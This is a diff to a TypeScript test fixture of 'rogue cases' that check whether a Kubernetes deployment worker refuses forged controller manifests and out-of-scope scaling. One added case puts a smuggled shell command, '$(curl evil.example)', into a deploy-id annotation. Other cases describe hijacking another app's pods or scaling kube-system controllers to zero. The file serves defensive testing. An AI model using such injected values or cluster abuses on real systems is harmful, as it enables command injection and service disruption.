@@ -4,6 +4,7 @@
 // activities/index.ts) on `deploy-<env>` with crafted arguments. The real worker
 // must refuse each naming the rule, write nothing, and every workflow must end.
 import type { ReplicationControllerManifest } from '../../domain/render.js';
+import { ANNOTATIONS } from '../../domain/names.js';
 
 export interface RogueContext {
   environment: string;
@@ -47,6 +48,7 @@ export interface RogueCase {
 
 /** A rendered manifest as plain data, for editing by hand. */
 interface Loose {
+  metadata: { annotations: Record<string, string> };
   spec: { selector: Record<string, string>; template: { spec: Record<string, unknown> & { containers: Array<Record<string, unknown>>; volumes: unknown[] } } };
 }
 
@@ -87,6 +89,9 @@ export const ROGUE_CASES: RogueCase[] = [
   { id: 'create-broad-selector', attack: "create an RC selecting another app's pods (name=<foreign>)", rule: 'manifest is what checkDeploy renders',
     activity: 'createReplicationController', expect: [/selector|manifest|render/],
     args: (c) => [{ manifest: forged(c, (m) => (m.spec.selector = { name: c.foreignRc })) }] },
+  { id: 'create-deploy-id-not-a-run-id', attack: 'create an RC whose deploy-id annotation is not a run id', rule: 'manifest is what checkDeploy renders',
+    activity: 'createReplicationController', expect: [/deploy-id/],
+    args: (c) => [{ manifest: forged(c, (m) => (m.metadata.annotations[ANNOTATIONS.deployId] = '$(curl evil.example)')) }] },
   { id: 'scale-system-rc', attack: 'scale a coredns-like RC in kube-system to 0', rule: 'allowed namespaces', lock: (c) => ({ namespace: 'kube-system', app: c.systemRc.split('-')[0]! }), activity: 'scaleReplicationController',
     args: (c) => [{ namespace: 'kube-system', name: c.systemRc, replicas: 0 }], expect: [NAMESPACE], policy: 'namespaces' },
   { id: 'scale-foreign-rc', attack: 'scale an RC deployflow does not own to 5', rule: 'only deployflow-owned RCs', lock: (c) => ({ namespace: c.victim, app: 'billing' }), activity: 'scaleReplicationController',
